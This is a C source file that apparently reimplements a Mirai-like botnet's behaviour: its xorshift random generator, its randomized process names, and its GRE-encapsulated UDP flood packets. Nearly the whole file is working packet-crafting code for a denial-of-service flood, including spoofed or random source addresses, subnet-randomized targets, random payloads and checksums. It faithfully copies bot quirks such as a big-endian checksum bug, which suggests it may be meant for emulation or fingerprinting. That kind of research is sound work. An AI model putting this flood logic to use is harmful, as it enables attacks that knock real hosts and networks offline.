#include "botmaker.h"

#include <string.h>

static void put16_net(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32_net(uint8_t *p, uint32_t v)
{
	put16_net(p, v >> 16);
	put16_net(p + 2, v);
}

/* As the bot's processor stores it. */
static void put16(const struct bot *b, uint8_t *p, uint32_t v)
{
	p[b->big_endian ? 0 : 1] = (uint8_t)(v >> 8);
	p[b->big_endian ? 1 : 0] = (uint8_t)v;
}

static void put32(const struct bot *b, uint8_t *p, uint32_t v)
{
	put16(b, p + (b->big_endian ? 0 : 2), v >> 16);
	put16(b, p + (b->big_endian ? 2 : 0), v);
}

void bot_set(struct bot *b, const uint32_t state[4], bool big_endian)
{
	*b = (struct bot){ .x = state[0], .y = state[1], .z = state[2], .w = state[3], .big_endian = big_endian };
}

void bot_seed(struct bot *b, uint32_t time, uint32_t pids, uint32_t clock, bool big_endian)
{
	const uint32_t state[4] = { time, pids, clock, pids ^ clock };
	bot_set(b, state, big_endian);
}

uint32_t bot_draw(struct bot *b)
{
	uint32_t t = b->x;
	t ^= t << 11;
	t ^= t >> 8;
	b->x = b->y;
	b->y = b->z;
	b->z = b->w;
	b->w = b->w ^ b->w >> 19 ^ t;
	b->draws++;
	return b->w;
}

static void draw_name(struct bot *b, unsigned words, char *out)
{
	static const char letters[] = "abcdefghijklmnopqrstuvw012345678";
	for (unsigned i = 0; i < words; i++) {
		uint32_t v = bot_draw(b);
		for (unsigned k = 0; k < 4; k++, v >>= 8)
			*out++ = letters[(v & 0xff) / 8];
	}
	*out = '\0';
}

void bot_names(struct bot *b, char argv0[BOT_NAME_MAX], char comm[BOT_NAME_MAX])
{
	const unsigned first = bot_draw(b) % 4 + 3; /* 12 to 24 letters */
	draw_name(b, first, argv0);
	const unsigned second = bot_draw(b) % 6 + 3; /* 12 to 32 */
	draw_name(b, second, comm);
	comm[15] = '\0';
}

struct bot_orders bot_orders_default(void)
{
	return (struct bot_orders){ .len = 512, .rand = true, .sport = -1, .dport = -1, .ident = -1, .source = -2, .ttl = 64, .df = true };
}

void bot_attack_start(struct bot_attack *a, const struct bot *b, const struct bot_orders *o, uint32_t own)
{
	*a = (struct bot_attack){ .bot = *b, .orders = *o, .own = own };
	for (unsigned i = 0; i < o->targets; i++)
		a->inner_src[i] = bot_draw(&a->bot);
}

static uint32_t sum_words(const uint8_t *p, size_t n)
{
	uint32_t sum = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

static uint32_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum & 0xffff;
}

void bot_ip_checksum(uint8_t *p)
{
	put16_net(p + 10, 0);
	put16_net(p + 10, fold(sum_words(p, 20)));
}

static void ip_header(const struct bot_orders *o, uint8_t *p, size_t len, uint8_t proto)
{
	p[0] = 0x45;
	p[1] = o->tos;
	put16_net(p + 2, (uint32_t)len);
	put16_net(p + 6, o->df ? 0x4000 : 0);
	p[8] = o->ttl;
	p[9] = proto;
}

/* The bot adds an odd last octet as the number it is: right on a little-endian machine, where it is the pair's first octet, wrong on a big-endian one. */
static void udp_checksum(const struct bot *b, const uint8_t *ip, uint8_t *udp, unsigned data_len)
{
	const uint32_t udp_len = 8 + data_len;
	uint32_t sum = sum_words(ip + 12, 8) + 17 + udp_len + sum_words(udp, udp_len);
	if (data_len & 1)
		sum += (uint32_t)udp[udp_len - 1] << (b->big_endian ? 0 : 8);
	put16_net(udp + 6, fold(sum));
}

static void draw_data(struct bot *b, uint8_t *p, unsigned len)
{
	for (; len >= 4; len -= 4, p += 4)
		put32(b, p, bot_draw(b));
	if (len >= 2) {
		put16(b, p, bot_draw(b));
		p += 2;
		len -= 2;
	}
	if (len)
		*p = (uint8_t)bot_draw(b);
}

size_t bot_attack_packet(struct bot_attack *a, unsigned target, unsigned hops, uint8_t *out)
{
	const struct bot_orders *o = &a->orders;
	struct bot *b = &a->bot;
	const size_t inner_at = o->greeth ? 38 : 24, inner_len = 28 + (size_t)o->len, len = inner_at + inner_len;
	uint8_t *inner = out + inner_at, *udp = inner + 20;
	uint32_t dst = o->target[target].addr;

	memset(out, 0, len);
	ip_header(o, out, len, 47);
	ip_header(o, inner, inner_len, 17);
	put32_net(out + 20, o->greeth ? 0x6558 : 0x0800);
	if (o->target[target].masklen < 32)
		dst += bot_draw(b) >> o->target[target].masklen;
	put32_net(out + 16, dst);
	put32_net(out + 12, o->source >= 0 ? (uint32_t)o->source : a->own);
	if (o->source == -1)
		put32(b, out + 12, bot_draw(b));
	if (o->ident >= 0) {
		put16_net(out + 4, (uint32_t)o->ident);
		put16_net(inner + 4, ~(uint32_t)o->ident & 0xffff);
	} else {
		const uint32_t id = bot_draw(b) & 0xffff;
		put16(b, out + 4, id ? id : 0x5a17); /* the kernel does not let 0 through */
		put16(b, inner + 4, ~(id - 1000) & 0xffff);
	}
	put32(b, inner + 12, a->inner_src[target]);
	if (o->sport >= 0)
		put16_net(udp, (uint32_t)o->sport);
	else
		put16(b, udp, bot_draw(b) & 0xffff);
	if (o->dport >= 0)
		put16_net(udp + 2, (uint32_t)o->dport);
	else
		put16(b, udp + 2, bot_draw(b) & 0xffff);
	if (o->gcip)
		put32_net(inner + 16, dst);
	else
		put32(b, inner + 16, bot_draw(b));
	if (o->greeth) {
		uint8_t third[4];
		put32(b, out + 24, bot_draw(b));
		put32(b, out + 30, bot_draw(b));
		put32(b, third, bot_draw(b));
		memcpy(out + 28, third, 2);
		memcpy(out + 34, third + 2, 2);
		put16_net(out + 36, 0x0800);
	}
	put16_net(udp + 4, 8 + o->len);
	if (o->rand)
		draw_data(b, udp + 8, o->len);
	bot_ip_checksum(inner);
	udp_checksum(b, inner, udp, o->len);
	out[8] = (uint8_t)(o->ttl - hops);
	bot_ip_checksum(out);
	if (target + 1 == o->targets)
		a->round++;
	return len;
}
